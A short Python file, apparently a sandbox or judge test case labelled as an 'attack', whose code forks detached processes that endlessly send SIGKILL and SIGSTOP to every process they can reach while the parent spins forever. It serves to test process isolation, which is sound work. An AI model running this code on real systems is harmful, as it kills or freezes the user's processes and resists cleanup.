# attack: processes that kill and stop all they can, without a pause, so that whoever comes to end them is ended first
# verdict: OK RTE TLE
import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGKILL):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    os.kill(-1, number)
                except OSError:
                    pass
while True:
    pass
